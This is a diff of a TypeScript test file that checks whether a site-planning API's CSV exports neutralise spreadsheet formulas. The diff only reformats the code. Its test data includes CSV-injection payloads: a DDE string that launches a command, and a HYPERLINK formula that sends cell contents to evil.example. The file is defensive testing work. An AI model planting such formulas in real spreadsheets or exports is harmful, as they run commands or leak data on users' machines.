@@ -5,7 +5,15 @@ import { TEST_DATABASES } from '../helpers/databases.ts';
 import { multipartBody } from './helpers/route-fuzz.ts';
 
 /** Text a spreadsheet would run as a formula (OWASP "CSV Injection"), as users might type or import it. */
-const FORMULAS = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', '+SUM(1+1)', '-2+3+cmd|x', '@SUM(A1:A9)', '\t=1+1', '\r=1+1'];
+const FORMULAS = [
+  "=cmd|' /C calc'!A0",
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  '+SUM(1+1)',
+  '-2+3+cmd|x',
+  '@SUM(A1:A9)',
+  '\t=1+1',
+  '\r=1+1',
+];
 const FORMULA_START = /^[=+\-@\t\r]/;
 
 /** Cells of a parsed CSV that a spreadsheet would evaluate: formula-like and not a plain number. */
@@ -30,14 +38,35 @@ describe.each(TEST_DATABASES)('CSV exports neutralise formulas on $name', (targe
     await post('/api/v1/areas', { code: 'inj', name: FORMULAS[0], boundary: TEST_BOUNDARY });
     for (const [i, text] of FORMULAS.entries()) {
       await post('/api/v1/areas/inj/sites', {
-        code: `S${i}`, name: text, lon: 124.85, lat: 46.65, address: text, note: text,
+        code: `S${i}`,
+        name: text,
+        lon: 124.85,
+        lat: 46.65,
+        address: text,
+        note: text,
         cells: [{ code: `G${i}`, technology: 'GSM', frequencyMhz: 950, heightM: 35, azimuthDeg: 0, tiltDeg: -2, powerDbm: 43 }],
       });
-      await post('/api/v1/areas/inj/reports', { externalId: `R${i}`, lon: 124.86, lat: 46.66, kind: 'other', source: 'callback', reportedAt: '2006-05-01T08:00:00Z', address: text, note: text });
+      await post('/api/v1/areas/inj/reports', {
+        externalId: `R${i}`,
+        lon: 124.86,
+        lat: 46.66,
+        kind: 'other',
+        source: 'callback',
+        reportedAt: '2006-05-01T08:00:00Z',
+        address: text,
+        note: text,
+      });
     }
     await post('/api/v1/areas/inj/candidates', { code: 'K1', name: '+cmd|x', lon: 124.82, lat: 46.62, technology: 'GSM', note: '=1+1' });
     const csv = `external_id,lon,lat,kind,source,reported_at,address,note\n"=IMPORTED",124.862,46.662,weak-signal,callback,2006-05-01T08:00:00Z,${'"=HYPERLINK(""http://x"")"'},"@note"\n`;
-    const res = await t.app.inject({ method: 'POST', url: '/api/v1/areas/inj/imports', ...multipartBody([{ name: 'kind', value: 'reports' }, { name: 'file', fileName: 'r.csv', content: Buffer.from(csv) }]) });
+    const res = await t.app.inject({
+      method: 'POST',
+      url: '/api/v1/areas/inj/imports',
+      ...multipartBody([
+        { name: 'kind', value: 'reports' },
+        { name: 'file', fileName: 'r.csv', content: Buffer.from(csv) },
+      ]),
+    });
     expect(res.statusCode, res.body).toBe(200);
   });
   afterAll(async () => t?.close());
